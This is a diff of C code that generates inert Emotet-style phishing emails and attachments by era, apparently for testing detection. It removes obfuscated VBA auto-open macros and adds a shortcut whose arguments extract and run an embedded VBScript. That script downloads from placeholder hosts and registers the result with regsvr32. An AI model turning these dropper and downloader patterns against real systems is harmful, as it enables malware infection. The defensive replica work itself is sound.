@@ -1,68 +1,30 @@
 /* Inert replicas of Emotet's mail by era, from published descriptions: reply chains with DOC (2019), locked ZIP with the
  * password in the text (2020), XLSM and locked projects (2021), hidden macro sheets, LNK and the Templates lure (2022), padded
- * DOC and OneNote (2023). The macros have the shape alone: the objects that they ask for do not exist, and nothing stands
- * behind the addresses. */
-#include "make/doc.h"
-#include "make/ooxml.h"
+ * DOC and OneNote (2023). What is attached comes from replica.h: hosts that no network resolves, programs that do not exist. */
+#include <string.h>
+
+#include "make/lnk.h"
+#include "make/replica.h"
 #include "make/samples.h"
 #include "make/samples_letter.h"
 #include "make/xls.h"
-#include "make/xlsb.h"
 #include "make/zip.h"
 
-#define LURE "This document is protected.\nPress \"Enable Editing\" and then \"Enable Content\" above to see it."
 #define WORD_MACRO_TYPE "application/vnd.ms-word.document.macroEnabled.12"
 #define EXCEL_MACRO_TYPE "application/vnd.ms-excel.sheet.macroEnabled.12"
 
-/* --- macros --- */
-
-const make_vba_module make_macro_2019 = {
-    .name = "Prepare",
-    .type = 'm',
-    .code = "Sub AutoOpen()\n    Dim word, piece, helper\n    For Each piece In Split(Letter.Tray.Tag, \"*\")\n        word = "
-            "word & piece\n    Next\n"
-            "    word = Replace(word, Chr(36), Chr(46))\n    Set helper = CreateObject(word)\n"
-            "    helper.Fetch Replace(Letter.Shelf.ControlTipText, \"#\", \"\")\nEnd Sub\n"};
-
-const make_vba_module make_macro_2020 = {
-    .name = "Module1",
-    .type = 'm',
-    .code =
-        "Function Whole(text)\n    Whole = Join(Split(text, \"qz\"), \"\")\nEnd Function\n\nSub Document_Open()\n    Dim helper\n"
-        "    Set helper = CreateObject(Whole(ActiveDocument.BuiltInDocumentProperties(\"Title\")))\n"
-        "    helper.Fetch Chr(104) & Chr(116) & \"tp://download.example/\" & StrReverse(\"txt.treni\")\nEnd Sub\n"};
-
-const make_vba_module make_macro_2021 = {
-    .name = "ThisDocument",
-    .type = 'd',
-    .code = "Private Sub Document_Open()\n    Dim a, b\n    a = \"No@@.Su@@ch.Ob\" + \"j@@ect\"\n    b = "
-            "Replace(\"no@@such-pro@@gram.exe\", \"@@\", \"\")\n"
-            "    a = Replace(a, \"@@\", \"\") + Chr(50)\n    CreateObject(a).Start b + StrReverse(\" \")\nEnd Sub\n"};
-
-const make_vba_module make_macro_2023 = {
-    .name = "Chapter",
-    .type = 'm',
-    .code = "Sub AutoOpen()\n    Dim i, word\n    For i = 1 To Len(Letter.Tray.Tag) Step 2\n        word = word & "
-            "Chr(Val(Mid(Letter.Tray.Tag, i, 2)))\n    Next\n"
-            "    Set helper = CreateObject(StrReverse(word))\n    helper.Fetch Letter.Shelf.ControlTipText\nEnd Sub\n"};
-
-static const make_control controls_2019[] = {
-    {.class = SK_FORMS_TEXTBOX, .name = "Tray", .value = "", .tag = "No*$Su*ch$Ob*ject"},
-    {.class = SK_FORMS_LABEL, .name = "Shelf", .caption = "Shelf", .tip = "ht#tp://downl#oad.example/wp-cont#ent/inert.txt"}};
-static const make_control controls_2023[] = {
-    {.class = SK_FORMS_TEXTBOX, .name = "Tray", .value = "", .tag = "847879"},
-    {.class = SK_FORMS_LABEL, .name = "Shelf", .caption = "Shelf", .tip = "http://download.example/inert.txt"}};
-
-/* A document with a module and a form, as Word 97 to 2003 keeps it. */
-static sk_bytes macro_doc(sk_arena *a, const char *text, const char *title, const make_vba_module *module,
-                          const make_control *controls)
+/* The first variant of an era, from seed on, whose file has that ending. */
+static sk_bytes replica(sk_arena *a, const char *era, uint64_t seed, const char *ending)
 {
-    make_vba_module modules[] = {*module, {.name = "Letter", .type = 'f', .code = ""}};
-    make_vba_project vba = {.modules = modules, .count = controls ? 2 : 1};
-    make_form form = {.name = "Letter", .caption = "Letter", .controls = controls, .count = 2};
-    return make_doc_bytes(
-        a, &(make_doc){
-               .text = text, .title = title, .author = "A. Writer", .vba = &vba, .forms = &form, .form_count = controls ? 1 : 0});
+    size_t n = 0;
+    while (n < make_replica_era_count && strcmp(make_replica_eras[n].name, era) != 0) {
+        n++;
+    }
+    for (uint64_t most = seed + 100; n < make_replica_era_count && seed < most; seed++) {
+        make_replica r = make_replica_of(a, n, seed, MAKE_REPLICA_PLAIN);
+        if (r.name && sk_ends_nocase(sk_bytes_str(r.name), sk_bytes_str(ending))) return r.bytes;
+    }
+    return (sk_bytes){NULL, 0};
 }
 
 /* --- 2018 to 2020 --- */
@@ -78,7 +40,7 @@ sk_bytes make_sample_reply_doc(sk_arena *a)
         a, &l, make_utf8,
         "お世話になっております。\r\n\r\n添付をご確認ください。\r\n\r\n佐藤 花子\r\nsato@partner.example\r\n\r\n"
         "> 佐藤様\r\n>\r\n> お見積り金額は税別で\r\n> 38,000円となります。\r\n> ご検討をお願いいたします。\r\n>\r\n> 田中\r\n",
-        "application/msword", "20191024_見積.doc", macro_doc(a, LURE, NULL, &make_macro_2019, controls_2019));
+        "application/msword", "20191024_見積.doc", replica(a, "2019 doc, controls, WMI", 1, ".doc"));
 }
 
 sk_bytes make_sample_link_only(sk_arena *a)
@@ -99,7 +61,7 @@ sk_bytes make_sample_locked_zip_doc(sk_arena *a)
                      .subject = "請求書の件です。",
                      .date = "Wed, 2 Sep 2020 09:48:10 +0900",
                      .id = "83512.20200902004810"};
-    sk_bytes doc = macro_doc(a, LURE, "Noqz.Suqzch.Obqzject", &make_macro_2020, NULL);
+    sk_bytes doc = replica(a, "2020 red dawn", 1, ".doc");
     make_zip_entry entry = {.name = "20200902_invoice.doc", .data = doc, .method = 8, .password = "8813"};
     return make_letter_with(a, &l, make_jis,
                             "田中様\r\n\r\nお世話になっております。\r\n請求書をお送りいたします。\r\n\r\nファイル名: "
@@ -116,13 +78,10 @@ sk_bytes make_sample_docm_2021(sk_arena *a)
                      .subject = "Re: Contract draft",
                      .date = "Tue, 16 Nov 2021 14:20:00 +0100",
                      .id = "4410.20211116132000"};
-    make_office office = {.macro_enabled = true,
-                          .title = "Contract",
-                          .vba = make_vba_bin(a, &(make_vba_project){.modules = &make_macro_2021, .count = 1, .locked = true})};
     return make_letter_with(a, &l, make_ascii,
                             "Hello,\r\n\r\nplease see attached.\r\n\r\n> Hi John,\r\n> please find my changes in section 4 "
                             "below.\r\n> Regards, Jane\r\n",
-                            WORD_MACRO_TYPE, "contract-1611.docm", make_docx(a, &office, LURE, NULL));
+                            WORD_MACRO_TYPE, "contract-1611.docm", replica(a, "2021 docm and xlsm, locked", 1, ".docm"));
 }
 
 sk_bytes make_sample_xlsm_2021(sk_arena *a)
@@ -133,7 +92,7 @@ sk_bytes make_sample_xlsm_2021(sk_arena *a)
                      .date = "Tue, 30 Nov 2021 11:00:00 +0000",
                      .id = "9101.20211130"};
     return make_letter_with(a, &l, make_ascii, "Please find the payment status attached.\r\n", EXCEL_MACRO_TYPE,
-                            "payment_3011.xlsm", make_xlsm_2021(a));
+                            "payment_3011.xlsm", replica(a, "2021 xlm, mshta", 1, ".xlsm"));
 }
 
 sk_bytes make_sample_appinstaller(sk_arena *a)
@@ -161,7 +120,7 @@ sk_bytes make_sample_xls_2022(sk_arena *a)
                      .date = "Thu, 3 Mar 2022 10:22:00 +0900",
                      .id = "66120.20220303"};
     return make_letter_with(a, &l, make_utf8, "添付をご確認ください。\r\n\r\n田中 一郎\r\n", "application/vnd.ms-excel",
-                            "資料_0303.xls", make_xls_2022(a));
+                            "資料_0303.xls", replica(a, "2022 xlm, download", 1, ".xls"));
 }
 
 sk_bytes make_sample_xlsb_2022(sk_arena *a)
@@ -172,28 +131,19 @@ sk_bytes make_sample_xlsb_2022(sk_arena *a)
                      .date = "Tue, 14 Jun 2022 08:00:00 +0000",
                      .id = "31.20220614"};
     return make_letter_with(a, &l, make_ascii, "Your statement is attached.\r\n",
-                            "application/vnd.ms-excel.sheet.binary.macroEnabled.12", "statement.xlsb", make_xlsb_2022(a));
+                            "application/vnd.ms-excel.sheet.binary.macroEnabled.12", "statement.xlsb", replica(a, "TrickBot xlsb", 1, ".xlsb"));
 }
 
-/* A shortcut with relative path and arguments (MS-SHLLINK 2.1, 2.4), target of length 0, and text behind its end. */
+/* A shortcut that cuts the script out of its own bytes and starts it; the script stands behind its end. */
 static sk_bytes shortcut(sk_arena *a)
 {
-    sk_buf b = sk_buf_new(a, 4096);
-    sk_buf_bytes(&b, SK_LIT("L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"));
-    make_u32(&b, 0xA8); /* HasRelativePath, HasArguments, IsUnicode */
-    make_u32(&b, 0x20);
-    make_zeros(&b, 24 + 4 + 4);
-    make_u32(&b, 7); /* shown minimised */
-    make_zeros(&b, 12);
-    static const char *const strings[] = {"..\\nosuch-folder\\nosuch-program.exe",
-                                          "/v:on /c nosuch-program.exe nosuch-text \"Statement.lnk\""};
-    for (size_t i = 0; i < SK_COUNT(strings); i++) {
-        make_u16(&b, (unsigned)sk_bytes_str(strings[i]).len);
-        make_utf16(&b, strings[i]);
-    }
-    make_u32(&b, 0); /* the terminal block */
-    sk_buf_str(&b, "\r\ninert text behind the end of the shortcut\r\n");
-    return sk_buf_view(&b);
+    return make_lnk_file(a, &(make_lnk){
+        .environment = "%ComSpec%", .icon = "%SystemRoot%\\System32\\shell32.dll",
+        .arguments = "/v:on /c findstr \"nosuchmark.*\" \"Statement.lnk\" > \"%tmp%\\nosuch.vbs\" & \"%tmp%\\nosuch.vbs\"",
+        .overlay = SK_LIT("\r\nnosuchmark = 1: Set q = CreateObject(\"MSXML2.XMLHTTP\"): For Each u In Array(\"http://hacked-gym.example/nosuch/a\", "
+                          "\"http://hacked-farm.example/nosuch/b\"): q.Open \"GET\", u, False: q.Send: If q.Status = 200 Then: Set s = "
+                          "CreateObject(\"ADODB.Stream\"): s.Type = 1: s.Open: s.Write q.ResponseBody: s.SaveToFile \"nosuch.ocx\", 2: "
+                          "CreateObject(\"WScript.Shell\").Run \"regsvr32.exe /s nosuch.ocx\": End If: Next\r\n")});
 }
 
 sk_bytes make_sample_lnk_2022(sk_arena *a)
@@ -247,7 +197,7 @@ sk_bytes make_sample_padded_2023(sk_arena *a)
                      .date = "Tue, 7 Mar 2023 12:00:00 +0000",
                      .id = "90.20230307"};
     sk_buf b = sk_buf_new(a, PADDING + (1 << 20));
-    sk_buf_bytes(&b, macro_doc(a, LURE "\nCall me Ishmael.", NULL, &make_macro_2023, controls_2023));
+    sk_buf_bytes(&b, replica(a, "2023 padded doc", 1, ".doc"));
     make_zeros(&b, PADDING);
     make_zip_entry entry = {.name = "INVOICE-0703.doc", .data = sk_buf_view(&b), .method = 8};
     return make_letter_with(a, &l, make_ascii, "Please find the invoice attached.\r\n", "application/zip", "INVOICE-0703.zip",
